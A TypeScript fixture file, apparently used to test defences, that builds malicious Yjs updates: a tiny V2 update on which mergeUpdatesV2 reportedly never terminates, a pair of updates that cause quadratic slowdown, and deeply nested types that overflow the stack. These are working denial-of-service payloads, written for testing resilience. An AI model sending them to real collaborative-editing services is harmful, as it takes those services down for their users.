/**
 * Updates as an attacker would write them. Each is small and was seen to do its harm to Yjs itself.
 */
import * as encoding from 'lib0/encoding';
import { fromHex } from '../../shared/primitives/bytes.ts';

/** 33 bytes of V2 that stand for 2^50 structs: `Y.mergeUpdatesV2` does not end on them (yjs#687). */
export const V2_BOMB = fromHex('000001010000010001000000094180808080808080020180808080808080020000');

/**
 * Two sound V1 updates, a few bytes an item, whose second makes Yjs walk over all of the first once for every item it
 * brings: 16,000 of them keep a computer busy for minutes. Either alone is done in a moment.
 */
export function slowPair(client: number, items: number): readonly [Uint8Array, Uint8Array] {
  const first = update(client, 0, 1, (encoder) => {
    encoding.writeUint8(encoder, 4); // a string, in a root type
    encoding.writeVarUint(encoder, 1);
    encoding.writeVarString(encoder, 'text');
    encoding.writeVarString(encoder, 'a'.repeat(items + 1));
  });
  const second = update(client, items + 1, items, (encoder, i) => {
    encoding.writeUint8(encoder, 4 | 0x40); // a string, left of the i-th letter and right of nothing
    encoding.writeVarUint(encoder, client);
    encoding.writeVarUint(encoder, i + 1);
    encoding.writeVarString(encoder, 'b');
  });
  return [first, second];
}

/** One sound V1 update of types within types, as deep as asked: whoever reads them by calls runs out of stack. */
export const nested = (client: number, depth: number): Uint8Array =>
  update(client, 0, depth, (encoder, i) => {
    encoding.writeUint8(encoder, 7); // a type
    encoding.writeVarUint(encoder, i === 0 ? 1 : 0);
    if (i === 0) encoding.writeVarString(encoder, 'summary');
    else {
      encoding.writeVarUint(encoder, client); // in the one before
      encoding.writeVarUint(encoder, i - 1);
    }
    encoding.writeVarUint(encoder, 3); // an XML element
    encoding.writeVarString(encoder, 'p');
  });

function update(
  client: number,
  clock: number,
  structs: number,
  write: (encoder: encoding.Encoder, i: number) => void,
): Uint8Array {
  const encoder = encoding.createEncoder();
  for (const n of [1, structs, client, clock]) encoding.writeVarUint(encoder, n);
  for (let i = 0; i < structs; i++) write(encoder, i);
  encoding.writeVarUint(encoder, 0); // no deletions
  return encoding.toUint8Array(encoder);
}
